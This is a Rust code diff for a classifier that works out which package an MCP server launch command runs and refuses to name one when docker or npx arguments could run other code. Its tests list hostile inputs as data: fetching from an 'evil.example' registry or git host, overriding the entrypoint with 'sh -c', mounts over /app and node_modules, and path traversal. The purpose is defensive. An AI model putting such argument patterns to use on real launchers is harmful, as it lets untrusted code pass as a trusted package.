@@ -17,6 +17,7 @@ use ua_classify::Pack;
 use ua_mcp::{McpConfig, Reach};
 
 use crate::error::HostError;
+use crate::review::name_of;
 use crate::settings::Settings;
 
 /// Options of launchers that decide nothing about what is run.
@@ -64,6 +65,12 @@ const WITH_VALUE: [&str; 21] = [
     "--security-opt",
     "-u",
     "--user",
+];
+
+/// Programs that run what the words behind them say.
+const RUN_WORDS: [&str; 16] = [
+    "ash", "bash", "bun", "busybox", "dash", "deno", "env", "node", "npx", "perl", "python", "python3", "ruby", "sh",
+    "uvx", "zsh",
 ];
 
 /// Variables that decide what code a launcher fetches or a program loads, or where it talks to: the beginnings of their names, in capitals.
@@ -215,8 +222,11 @@ fn of_command(command: &str, args: &[&str], path: &str) -> Option<String> {
         ("uv", ["run", rest @ ..]) => of_python(rest, "--with", true),
         ("python" | "python3", ["-m", module, ..]) => Some(format!("python:{module}")),
         ("docker" | "podman", ["run", rest @ ..]) => {
-            let (image, _) = first_word(rest, &WITH_VALUE)?;
-            Some(format!("oci:{}", image_name(image)))
+            let (image, behind) = first_word(rest, &WITH_VALUE)?;
+            let options = &rest[..rest.len() - behind.len() - 1];
+            // An image without an entry point runs what is named behind it.
+            let runs_another = behind.first().is_some_and(|word| RUN_WORDS.contains(&name_of(word)));
+            (mounts(options).all(is_of_data) && !runs_another).then(|| format!("oci:{}", image_name(image)))
         }
         // A program of the package that it lies in.
         ("node" | "bun", [script, ..]) if Path::new(script).is_absolute() => installed::package_of(Path::new(script)),
@@ -226,6 +236,48 @@ fn of_command(command: &str, args: &[&str], path: &str) -> Option<String> {
             Some(package.unwrap_or_else(|| format!("program:{program}")))
         }
     }
+}
+
+/// What options of a container put into its folders, as they stand.
+fn mounts<'a>(options: &'a [&'a str]) -> impl Iterator<Item = &'a str> {
+    const NAMES: [&str; 3] = ["--mount", "--volume", "-v"];
+    options.iter().enumerate().filter_map(|(at, word)| match word.split_once('=') {
+        Some((option, value)) if NAMES.contains(&option) => Some(value),
+        Some(_) | None => NAMES.contains(word).then(|| options.get(at + 1).copied().unwrap_or_default()),
+    })
+}
+
+/// Whether what is mounted lies where an image has no program of its own: `src:/projects`, `type=bind,src=/x,dst=/data/x`.
+fn is_of_data(mount: &str) -> bool {
+    const DATA: [&str; 18] = [
+        "data",
+        "documents",
+        "files",
+        "local-directory",
+        "media",
+        "mnt",
+        "notes",
+        "project",
+        "projects",
+        "repo",
+        "repos",
+        "repositories",
+        "share",
+        "shared",
+        "vault",
+        "workdir",
+        "workspace",
+        "workspaces",
+    ];
+    let fields = || mount.split(',').filter_map(|field| field.split_once('='));
+    let named = fields().filter(|(name, _)| matches!(*name, "dst" | "destination" | "target")).map(|(_, value)| value);
+    let by_place = mount.split(':').nth(1).filter(|_| fields().next().is_none());
+    let targets: Vec<&str> = named.chain(by_place).collect();
+    let is_data = |target: &&str| {
+        let first = target.strip_prefix('/').and_then(|rest| rest.split('/').next());
+        first.is_some_and(|first| DATA.contains(&first)) && !target.split('/').any(|part| part == "..")
+    };
+    !targets.is_empty() && targets.iter().all(is_data)
 }
 
 /// The package of Python that a launcher runs: the one that it is told to run, or the one that `option` names in front of a command of the same
@@ -344,7 +396,7 @@ mod tests {
 
     #[test]
     fn a_command_line_names_its_package() {
-        let cases: [(&str, &[&str], &str); 27] = [
+        let cases: [(&str, &[&str], &str); 29] = [
             ("npx", &["-y", "@notionhq/notion-mcp-server"], "npm:@notionhq/notion-mcp-server"),
             ("npx", &["-y", "@playwright/mcp@latest", "--headless"], "npm:@playwright/mcp"),
             ("/usr/bin/npx", &["tavily-mcp@0.2.1"], "npm:tavily-mcp"),
@@ -371,6 +423,8 @@ mod tests {
                 &["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server:v1"],
                 "oci:ghcr.io/github/github-mcp-server",
             ),
+            ("docker", &["run", "-v", "/srv/x:/projects/x:ro", "mcp/filesystem", "/projects"], "oci:mcp/filesystem"),
+            ("docker", &["run", "--mount", "type=bind,src=.,dst=/data", "mcp/sqlite"], "oci:mcp/sqlite"),
             ("docker", &["run", "-it", "--env=A=b", "docker.io/mcp/fetch@sha256:00"], "oci:mcp/fetch"),
             ("docker", &["run", "localhost:5000/mcp/fetch"], "oci:localhost:5000/mcp/fetch"),
             ("docker", &["run", "-i", "--pull", "always", "--platform=linux/amd64", "mcp/fetch"], "oci:mcp/fetch"),
@@ -385,7 +439,7 @@ mod tests {
     #[test]
     fn s13_a_command_line_that_could_run_something_else_names_no_package() {
         let good = "@modelcontextprotocol/server-github";
-        let cases: [(&str, &[&str]); 33] = [
+        let cases: [(&str, &[&str]); 41] = [
             ("npx", &["-y", "--registry=https://evil.example", good]),
             ("npx", &["-y", "-p", "evil", good]),
             ("npx", &["-c", "evil", good]),
@@ -404,6 +458,14 @@ mod tests {
             ("uvx", &["mcp-server-git@git+https://evil.example"]),
             ("uvx", &["--index-url", "https://evil.example", "mcp-server-git"]),
             ("docker", &["run", "--entrypoint", "sh", "ghcr.io/github/github-mcp-server"]),
+            ("docker", &["run", "-v", "./x:/app", "mcp/slack"]),
+            ("docker", &["run", "--volume=./x:/usr/local/lib/node_modules", "mcp/slack"]),
+            ("docker", &["run", "--mount=type=bind,src=.,dst=/app", "mcp/slack"]),
+            ("docker", &["run", "--mount", "type=tmpfs,destination=/data,target=/app", "mcp/slack"]),
+            ("docker", &["run", "-v", "./x:/data/../app", "mcp/slack"]),
+            ("docker", &["run", "-v", "/app", "mcp/slack"]),
+            ("docker", &["run", "mcp/slack", "sh", "-c", "evil"]),
+            ("docker", &["run", "mcp/slack", "/usr/bin/env", "evil"]),
             ("docker", &["run", "--sig-proxy", "evil", "ghcr.io/github/github-mcp-server"]),
             ("bin/github-mcp-server", &["stdio"]),
             ("uvx", &["--from", "evil", "mcp-server-git"]),
